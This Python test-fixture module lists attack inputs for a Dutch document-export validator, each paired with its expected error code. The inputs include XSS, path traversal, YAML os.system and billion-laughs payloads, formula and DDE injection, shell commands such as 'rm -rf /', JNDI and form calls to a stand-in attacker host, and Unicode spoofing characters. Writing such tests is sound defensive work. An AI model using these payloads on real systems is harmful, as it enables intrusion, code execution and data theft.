"""The attack inputs of docs/veiligheid.md, by the name they have there.

`TEXTS` and `FILES` must be reported: (name, the code of the finding, the input). A text stands
in the summary of a sheet of its own, a file is a sheet of its own. `HARMLESS` are texts that
anybody may write: they must stand in every export as the text that they are, and do nothing.
"""

from collections.abc import Callable

DEEP = 5_000
BIDI = "\u202e"

HTML = "html-in-tekst"
LINK = "adres-onveilig"
MARKUP = "opmaak-niet-mogelijk"
VALUE = "waarde-ongeldig"
YAML = "yaml-ongeldig"
REFERENCE = "yaml-verwijzing"

TEXTS: tuple[tuple[str, str, str], ...] = (
    ("html-script", HTML, "De stad <script>alert(1)</script> groeit."),
    ("html-script-block", HTML, "De stad groeit.\n\n<script>\nalert(1)\n</script>"),
    ("html-onerror", HTML, "De stad <img src=x onerror=alert(1)> groeit."),
    ("html-onload", HTML, "De stad <svg onload=alert(1)> groeit."),
    ("html-iframe", HTML, "De stad <iframe src='//kwaad.example'></iframe> groeit."),
    ("html-style", HTML, "<style>@import '//kwaad.example/x.css'</style>"),
    ("html-comment", HTML, "De stad <!-- verborgen --> groeit."),
    ("html-processing", HTML, "De stad <?php system('id') ?> groeit."),
    ("html-cdata", HTML, "De stad <![CDATA[ <script>alert(1)</script> ]]> groeit."),
    ("html-declaration", HTML, "De stad <!ENTITY x SYSTEM 'file:///etc/passwd'> groeit."),
    ("html-meta-refresh", HTML, "<meta http-equiv=refresh content='0;url=//kwaad.example'>"),
    ("html-form", HTML, "<form action='https://kwaad.example'><input name=wachtwoord></form>"),
    ("html-base", HTML, "De stad <base href='https://kwaad.example/'> groeit."),
    ("raw-html", MARKUP, "De stad groeit.\n\n```{=html}\n<script>alert(1)</script>\n```"),
    ("raw-openxml", MARKUP, "De stad `<w:instrText>DDEAUTO</w:instrText>`{=openxml} groeit."),
    ("raw-opendocument", MARKUP, "De stad `<script:event/>`{=opendocument} groeit."),
    ("raw-latex", MARKUP, "De stad `\\input{/etc/passwd}`{=latex} groeit."),
    ("code-attributes", MARKUP, "De stad groeit.\n\n~~~ {.include file=/etc/passwd}\nx\n~~~"),
    ("link-javascript", LINK, "De [stad](javascript:alert(1)) groeit."),
    ("link-case", LINK, "De [stad](JaVaScRiPt:alert(1)) groeit."),
    ("link-entity", LINK, "De [stad](javascript&#58;alert(1)) groeit."),
    ("link-entity-letter", LINK, "De [stad](&#x6A;avascript:alert(1)) groeit."),
    ("link-entity-tab", LINK, "De [stad](java&#9;script:alert(1)) groeit."),
    ("link-entity-newline", LINK, "De [stad](java&NewLine;script:alert(1)) groeit."),
    ("link-entity-control", YAML, "De [stad](&#1;javascript:alert(1)) groeit."),
    ("link-percent", LINK, "De [stad](java%0ascript:alert(1)) groeit."),
    ("link-pointed", LINK, "De [stad](<javascript:alert(1)>) groeit."),
    ("link-pointed-space", LINK, "De [stad](< javascript:alert(1)>) groeit."),
    ("link-space", LINK, "De [stad](  javascript:alert(1)) groeit."),
    ("link-backslash", LINK, "De [stad](javascript\\:alert(1)) groeit."),
    ("link-autolink", LINK, "De <javascript:alert(1)> groeit."),
    ("link-definition", LINK, "De [stad] groeit.\n\n[stad]: javascript:alert(1)"),
    ("link-data", LINK, "De [stad](data:text/html;base64,PHNjcmlwdD4=) groeit."),
    ("link-vbscript", LINK, "De [stad](vbscript:msgbox) groeit."),
    ("link-file", LINK, "De [stad](file:///etc/passwd) groeit."),
    ("link-view-source", LINK, "De [stad](view-source:file:///etc/passwd) groeit."),
    ("link-ms-office", LINK, "De [stad](ms-word:ofe|u|https://kwaad.example/x.dotm) groeit."),
    ("link-scheme-less", LINK, "De [stad](//kwaad.example/x) groeit."),
    ("link-absolute", LINK, "De [stad](/etc/passwd) groeit."),
    ("link-parent", LINK, "De [stad](../../etc/passwd) groeit."),
    ("link-parent-percent", LINK, "De [stad](..%2f..%2fetc/passwd) groeit."),
    ("link-unc", LINK, "De [stad](\\\\kwaad\\deel\\x.exe) groeit."),
    ("link-query", LINK, "De [stad](?x=javascript:alert(1)) groeit."),
    ("link-broken-space", "verwijzing-kapot", "De [stad](java script:alert(1)) groeit."),
    ("link-title", MARKUP, 'De [stad](bron:visie "x onmouseover=alert(1)") groeit.'),
    ("link-source-parent", "bron-onbekend", "De [stad](bron:../../etc/passwd) groeit."),
    ("link-source-quote", "bron-onbekend", 'De [stad](bron:visie"onclick="alert(1)) groeit.'),
    ("link-sheet-parent", "sheet-onbekend", "De [stad](sheet:../../etc/passwd) groeit."),
    ("link-sheet-url", "sheet-onbekend", "De [stad](sheet:https://kwaad.example) groeit."),
    ("link-bare", "losse-url", "De stad https://kwaad.example groeit."),
    ("image-remote", "afbeelding-in-tekst", "De ![stad](https://kwaad.example/x.png) groeit."),
    ("image-local", "afbeelding-in-tekst", "De ![stad](/etc/passwd) groeit."),
    ("image-kanarie", "afbeelding-in-tekst", "De ![stad](../../kanarie.png) groeit."),
    ("prose-metadata", MARKUP, "De stad.\n\n---\n\ntitle: '`cat /etc/passwd`'"),
    ("prose-footnote-loop", MARKUP, "De stad.[^a]\n\n[^a]: Zie [^a]."),
    ("prose-footnote-copies", "voetnoot-dubbel", "De stad. " + "[^a] " * 99 + "\n\n[^a]: Ja."),
    ("sign-reference", YAML, "De &#x202E;stad groeit."),
    ("sign-reference-decimal", YAML, "De &#8203;stad groeit."),
    ("sign-reference-name", YAML, "De &ZeroWidthSpace;stad groeit."),
    ("sign-reference-escape", YAML, "De &#27;[31mstad groeit."),
    ("prose-brackets", VALUE, "[" * DEEP),
    ("prose-brackets-lines", VALUE, "[[[[[[[[\n" * 4_000),
    ("prose-emphasis", VALUE, "*a_ " * DEEP),
    ("prose-backticks", VALUE, "".join("`" * n + " " for n in range(1, 120))),
    ("prose-quotes", VALUE, "> " * 400 + "De stad groeit."),
    ("prose-lists", VALUE, "- " * 400 + "De stad groeit."),
    ("prose-indent", VALUE, "\n".join(" " * (2 * n) + "- x" for n in range(150))),
)
"""Prose that must be reported."""


def _file(text: str) -> Callable[[str], bytes]:
    return lambda _: text.encode()


def _instead(old: str, new: str) -> Callable[[str], bytes]:
    """An ordinary sheet with one thing changed."""

    def made(sheet: str) -> bytes:
        assert old in sheet
        return sheet.replace(old, new, 1).encode("utf-8", "surrogatepass")

    return made


_LAUGHS = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)

FILES: tuple[tuple[str, str, Callable[[str], bytes]], ...] = (
    ("yaml-laughs", REFERENCE, _file(_LAUGHS)),
    ("yaml-self", REFERENCE, _file("titel: &a\n  - *a\n")),
    ("yaml-merge", REFERENCE, _file("titel: x\n<<: {titel: y}\n")),
    ("yaml-python", REFERENCE, _file("titel: !!python/object/apply:os.system ['touch /tmp/x']\n")),
    ("yaml-python-name", REFERENCE, _file("titel: !!python/name:os.system\n")),
    ("yaml-include", REFERENCE, _file("titel: !include /etc/passwd\n")),
    ("yaml-binary", REFERENCE, _file("titel: !!binary aGFsbG8=\n")),
    ("yaml-tag-directive", YAML, _file("%TAG ! tag:kwaad.example,2000:\n%FOO bar\ntitel: x\n")),
    ("yaml-deep", YAML, _file("titel: " + "[" * DEEP)),
    ("yaml-deep-fields", YAML, _file("".join(" " * n + "a:\n" for n in range(500)))),
    ("yaml-wide", "bestand-te-groot", _file("a: [" + "x, " * 30_000 + "]\n")),
    ("yaml-big", "bestand-te-groot", _file("titel: |\n" + "  De stad groeit.\n" * 70_000)),
    ("yaml-documents", YAML, _instead("nummer:", "---\nnummer:")),
    ("yaml-twice", "sleutel-dubbel", _instead("titel:", "titel: Anders\ntitel:")),
    ("yaml-key", YAML, _file("? [a, b]\n: x\n")),
    ("yaml-utf16", "bestand-geen-utf8", lambda sheet: sheet.encode("utf-16")),
    ("yaml-latin1", "bestand-geen-utf8", lambda sheet: sheet.encode() + b"# \xe9\n"),
    ("yaml-nul", "bestand-geen-utf8", lambda sheet: sheet.encode() + b"# \x00\n"),
    ("yaml-surrogate", "bestand-geen-utf8", _instead("De stad", "De \ud800 stad")),
    ("yaml-scalar", YAML, _file("gewone tekst\n")),
    ("yaml-empty", YAML, _file("")),
    ("number-exponent", VALUE, _instead("nummer: ", "nummer: 9e9999999")),
    ("number-digits", VALUE, _instead("nummer: ", "nummer: " + "9" * 5_000)),
    ("number-octal", VALUE, _instead("nummer: ", "nummer: 0x")),
    ("id-parent", VALUE, _instead("id: groei", "id: ../../etc/passwd")),
    ("id-quote", VALUE, _instead("id: groei", "id: 'x\" onclick=\"alert(1)'")),
    ("id-long", VALUE, _instead("id: groei", "id: " + "a" * 300)),
    ("id-markup", VALUE, _instead("id: groei", "id: <script>")),
    ("field-unknown", "veld-onbekend", _instead("nummer:", "__class__: x\nnummer:")),
    ("picture-parent", VALUE, _instead("bestand: ", "bestand: ../../kanarie.png #")),
    ("picture-absolute", VALUE, _instead("bestand: ", "bestand: /etc/passwd #")),
    ("picture-address", VALUE, _instead("bestand: ", "bestand: https://kwaad.example/x.png #")),
    ("sign-bidi", YAML, _instead("De stad", f"De {BIDI}stad")),
    ("sign-bidi-isolate", YAML, _instead("De stad", "De \u2067stad")),
    ("sign-zero-width", YAML, _instead("De stad", "De \u200bstad")),
    ("sign-tags", YAML, _instead("De stad", "De \U000e0041stad")),
    ("sign-escape", YAML, _instead("De stad", "De \x1b]0;kwaad\x07stad")),
    ("sign-carriage-return", YAML, _instead("De stad", "Verborgen\rDe stad")),
    ("sign-line-separator", YAML, _instead("De stad", "De\u2028stad")),
    ("sign-byte-order", YAML, _instead("De stad", "De \ufeffstad")),
    ("sign-escaped", YAML, _instead('titel: "Wonen', 'titel: "\\u202eWonen')),
    ("sign-escaped-nul", YAML, _instead('titel: "Wonen', 'titel: "\\0Wonen')),
)
"""Files that must be reported; each is made from an ordinary sheet."""

HARMLESS: tuple[tuple[str, str], ...] = (
    ("text-script", "<script>alert(1)</script>"),
    ("text-close-title", "</title></head><script>alert(1)</script>"),
    ("text-attribute", '" onmouseover="alert(1)" x="'),
    ("text-attribute-single", "' onmouseover='alert(1)' x='"),
    ("text-cdata-end", "Einde ]]> van het blok"),
    ("text-entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("text-entity-unknown", "&kwaad; en &#x3C;b&#x3E;"),
    ("text-word-xml", "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText>"),
    ("text-odt-xml", "</text:p><script:event-listener xlink:href='x'/>"),
    ("text-formula", '=HYPERLINK("kwaad.exe";"Klik")'),
    ("text-formula-plus", "+cmd|' /C calc'!A0"),
    ("text-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("text-field-include", '{ INCLUDETEXT "/etc/passwd" }'),
    ("text-field-hyperlink", '{ HYPERLINK "\\\\\\\\kwaad\\\\x.exe" }'),
    ("text-field-dde", 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    ("text-template", "$body$ en $if(titel)$kwaad$endif$"),
    ("text-template-loop", "$for(include-before)$x$endfor$"),
    ("text-jinja", "{{ 7 * 7 }} {% include '/etc/passwd' %}"),
    ("text-format", "{0.__class__.__mro__} {pakket} %s %n %(x)s"),
    ("text-shell", "$(touch /tmp/kwaad) `id` ; rm -rf / | cat"),
    ("text-jndi", "${jndi:ldap://kwaad.example/x}"),
    ("text-include", "!include /etc/passwd"),
    ("text-path", "../../../../etc/passwd"),
    ("text-javascript", "javascript:alert(1)"),
    ("text-long-word", "A" * 290),
    ("text-combining", "Z" + "\u0310\u0311\u0312" * 20),
    ("text-right-to-left", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"),
    ("text-json-end", "</script><script>alert(1)//"),
    ("text-comment", "--><script>alert(1)</script><!--"),
    ("text-astral", "\U0001f512\U00010348 en \ufffd"),
)
"""One line that anybody may write in a title, a name or a table."""
